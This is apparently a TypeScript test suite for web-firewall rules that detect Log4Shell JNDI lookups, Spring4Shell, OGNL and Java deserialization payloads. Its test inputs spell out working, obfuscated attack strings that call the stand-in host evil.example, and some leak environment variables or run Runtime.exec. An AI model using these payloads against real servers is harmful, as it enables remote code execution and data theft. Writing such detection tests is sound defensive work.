import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules, resolveLookups } from './jndi.ts';
import { matchAll, timeAll, ruleMetaProblems, checkAll, testContext, testScope } from './lib/testing.ts';
import { validatePolicy } from '../../config/load.ts';
import { PayloadEngine } from '../engine.ts';
import { ruleRegistry } from '../registry.ts';

test('rule metadata is well formed', () => {
  assert.deepEqual(ruleMetaProblems(rules), []);
});

test('resolves obfuscated lookups to jndi:', () => {
  const attacks = [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:rmi://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}',
    '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://evil.example/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://evil.example}",
    '${j${lower:N}di:ldap://x}',
    '${${upper:j}${upper:n}${lower:d}i:iiop://x}',
    '${jndi:ldap://${env:USER}.evil.example/a}',
    '  ${ jndi:ldap://evil.example',
    '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
    '${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}',
  ];
  for (const a of attacks) {
    assert.ok(matchAll(rules, a).includes('944150'), `missed ${a}`);
  }
  assert.ok(resolveLookups('${${lower:J}${lower:N}DI:x}').jndi !== null);
});

test('checks every request header, not only the inspected list', () => {
  const ctx = testContext('GET', '/', [['Host', 'a'], ['X-Api-Version', '${${lower:jndi}:ldap://evil.example/x}'], ['User-Agent', 'curl/8']]);
  const hits = checkAll(rules, testScope([], ctx));
  assert.equal(hits.length, 1);
  assert.match(hits[0]!, /^944151: /);
  const clean = testContext('GET', '/', [['Host', 'a'], ['X-Template', '${user.name}']]);
  assert.deepEqual(checkAll(rules, testScope([], clean)), []);
});

test('does not flag template placeholders or prose', () => {
  const benign = ['${org.name}: your code is ${code}', 'jndi: a Java naming API', '${user.profile.firstName}', 'Costs ${price}', '${env}'];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
  assert.ok(matchAll(rules, '${env:AWS_SECRET_ACCESS_KEY}', 'query', 2).includes('944152'));
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = ['${'.repeat(32768), '${'.repeat(24) + 'a'.repeat(65000) + '}'.repeat(24), '}'.repeat(65536), '${::-j}'.repeat(9362), '${lower:'.repeat(8192)];
  for (const s of inputs) {
    const ms = timeAll(rules, s);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
  const ctx = testContext('GET', '/', [['X-A', '${'.repeat(32768)]]);
  const t0 = performance.now();
  checkAll(rules, testScope([], ctx));
  assert.ok(performance.now() - t0 < 2000);
});

test('detects Java code-execution gadgets, OGNL and serialized objects', () => {
  const attacks: [string, string][] = [
    ['${T(java.lang.Runtime).getRuntime().exec("id")}', '944100'],
    ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", '944100'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', '944100'],
    ['<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>', '944100'],
    ['new java.lang.ProcessBuilder("id").start()', '944100'],
    ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', '944110'],
    ['ACED0005737200', '944110'],
  ];
  for (const [a, id] of attacks) assert.ok(matchAll(rules, a).includes(id), `missed ${id} on ${a}`);
  const ctx = testContext('POST', '/upload', [['Host', 'a'], ['Content-Type', "%{(#nike='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"]]);
  assert.ok(checkAll(rules, testScope([], ctx)).some((h) => h.startsWith('944101')));
});

test('does not flag Java prose or ordinary base64', () => {
  const benign = ['Uses the java.lang package', 'The OGNL expression language', 'a priority queue', 'SGVsbG8gd29ybGQ=', 'brO0ABC is not at a boundary', 'Runtime errors'];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
});

test('resolves JS/HTML-escaped lookups in values and headers, and Basic credentials', () => {
  for (const a of ['\\u0024{jndi:dns://x}', '\\u0024\\u007bjndi:rmi://x/a}', '&#36;{jndi:iiop://x/a}', '&#x24;&#x7b;jndi:rmi://x/a}', '$\\{jndi:ldap://x/a}']) {
    assert.ok(matchAll(rules, a, 'json').includes('944150'), `missed ${a}`);
  }
  const basic = 'Basic ' + Buffer.from('${jndi:ldap://evil.example/a}:pw').toString('base64');
  for (const [h, v] of [['Authorization', basic], ['X-Custom', '\\u0024{jndi:ldap://x/a}'], ['Referer', '&#36;{jndi:ldap://x/a}']]) {
    const hits = checkAll(rules, testScope([], testContext('GET', '/', [['Host', 'a'], [h!, v!]])));
    assert.ok(hits.some((x) => x.startsWith('944151')), `missed header ${h}: ${v}`);
  }
  const clean = testContext('GET', '/', [['Authorization', 'Basic ' + Buffer.from('alice:pa$$w0rd%').toString('base64')], ['X-Note', 'R&D \\n ${name}']]);
  assert.deepEqual(checkAll(rules, testScope([], clean)), []);
});

test('detects Spring4Shell in bracket notation and serialized Java request bodies', () => {
  assert.ok(matchAll(rules, "class[module][classLoader][resources][context][parent][pipeline][first][pattern]", 'form_name').includes('944100'));
  assert.ok(matchAll(rules, "class['module']['classLoader'].URLs[0]", 'query_name').includes('944100'));
  assert.deepEqual(matchAll(rules, 'class[name]', 'query_name'), []);
  const body = (text: string, kind: 'binary' | 'text' | 'json'): string[] => {
    const ctx = testContext('POST', '/obj', [['Content-Type', 'application/octet-stream']], text);
    return checkAll(rules, { ...testScope([], ctx), phase: 'body', body: { kind, contentType: 'application/octet-stream', truncated: false, limited: false, text } });
  };
  assert.equal(body('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'binary').length, 1);
  // a text body's encoded stream is 944110's (on the `body` part), not reported twice; its raw magic is 944111's
  assert.deepEqual(body('ACED00057372', 'text'), []);
  const e = new PayloadEngine(validatePolicy({}).detection, ruleRegistry());
  const plain = testContext('POST', '/obj', [['Content-Type', 'text/plain']], 'ACED00057372');
  assert.deepEqual([...e.inspectRequest(plain), ...e.inspectBody(plain)].filter((s) => s.category === 'other').map((s) => s.ruleId), ['other.944110']);
  const rawText = testContext('POST', '/obj', [['Content-Type', 'text/plain']]);
  rawText.body = { bytes: Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]), truncated: false, declaredLength: 6 };
  assert.deepEqual([...e.inspectRequest(rawText), ...e.inspectBody(rawText)].filter((s) => s.category === 'other').map((s) => s.ruleId), ['other.944111']);
  const raw = testContext('POST', '/obj', [['Content-Type', 'application/x-java-serialized-object']]);
  raw.body = { bytes: Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]), truncated: false, declaredLength: 6 };
  assert.equal(checkAll(rules, { ...testScope([], raw), phase: 'body', body: { kind: 'binary', contentType: 'application/x-java-serialized-object', truncated: false, limited: false, text: '' } }).length, 1);
  assert.deepEqual(body('PK\u0003\u0004 archive rO0AB', 'binary'), []);
  assert.deepEqual(body('{"a":"rO0AB"}', 'json'), []);
});

test('linear time on 64 KiB pathological input (escaped forms, brackets)', () => {
  const inputs = ['\\u0024{'.repeat(9362), '&#36;{'.repeat(10922), 'class['.repeat(10922), 'class[module]['.repeat(4681)];
  for (const s of inputs) {
    const ms = timeAll(rules, s);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
  const ctx = testContext('GET', '/', [['Authorization', 'Basic ' + Buffer.from('${'.repeat(3000)).toString('base64')], ['X-A', '\\u0024{'.repeat(5000)]]);
  const t0 = performance.now();
  checkAll(rules, testScope([], ctx));
  assert.ok(performance.now() - t0 < 2000);
});
